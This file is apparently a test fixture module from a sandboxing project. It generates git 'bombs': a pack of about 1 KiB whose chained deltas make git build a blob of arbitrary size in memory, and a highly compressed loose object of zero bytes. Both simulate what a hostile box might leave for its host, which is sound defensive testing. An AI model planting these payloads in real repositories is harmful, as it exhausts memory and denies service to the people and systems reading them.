"""Git objects that are small on disk and huge in memory (issue 37, G3): a pack whose deltas
expand a 64 KiB blob to `size` bytes, and a loose object of `size` zero bytes. What a hostile
box can leave in its git directory for the host to read."""

from __future__ import annotations

import hashlib
import struct
import zlib

from flowerbox.box.gitshadow import _entry_header  # git's pack entry header

BASE = 1 << 16  # the pack's base blob: 64 KiB of zeros
MIDDLE = 1 << 24  # the first delta's result: 16 MiB of zeros, 256 copies of the base
STEP = 1 << 23  # what each copy of the second delta takes of the middle blob


def _varint(n: int) -> bytes:
    """A delta header's size: 7 bits a byte, low bits first."""
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def _blob_id(size: int) -> bytes:
    digest = hashlib.sha1(f"blob {size}\0".encode())  # noqa: S324 - git's object names
    for _ in range(size // MIDDLE):
        digest.update(bytes(MIDDLE))
    digest.update(bytes(size % MIDDLE))
    return digest.digest()


def delta_bomb(size: int) -> bytes:
    """A pack of three objects, about 1 KiB: a 64 KiB blob, a ref-delta making 16 MiB of it,
    and a ref-delta making `size` bytes (a multiple of 8 MiB) of that: indexing it makes git
    build the `size`-byte blob in memory."""
    middle = _varint(BASE) + _varint(MIDDLE) + b"\x80" * (MIDDLE // BASE)  # copy 0, 64 KiB
    copy = bytes([0x80 | 0x40, STEP >> 16])  # copy from 0, size byte 2: 8 MiB
    top = _varint(MIDDLE) + _varint(size) + copy * (size // STEP)
    objects = [
        _entry_header(3, BASE) + zlib.compress(bytes(BASE), 9),
        _entry_header(7, len(middle)) + _blob_id(BASE) + zlib.compress(middle, 9),
        _entry_header(7, len(top)) + _blob_id(MIDDLE) + zlib.compress(top, 9),
    ]
    pack = b"PACK" + struct.pack(">II", 2, len(objects)) + b"".join(objects)
    return pack + hashlib.sha1(pack).digest()  # noqa: S324 - the pack's checksum


def pack_name(pack: bytes) -> str:
    """pack-<its checksum>.pack, as git names it."""
    return f"pack-{pack[-20:].hex()}.pack"


def loose_bomb(size: int) -> tuple[str, bytes]:
    """A loose blob of `size` zero bytes: (its object id, the file's bytes, about size/1000)."""
    header = f"blob {size}\0".encode()
    deflater = zlib.compressobj(9)
    parts = [deflater.compress(header)]
    for _ in range(size // MIDDLE):
        parts.append(deflater.compress(bytes(MIDDLE)))
    parts.append(deflater.compress(bytes(size % MIDDLE)))
    parts.append(deflater.flush())
    return _blob_id(size).hex(), b"".join(parts)
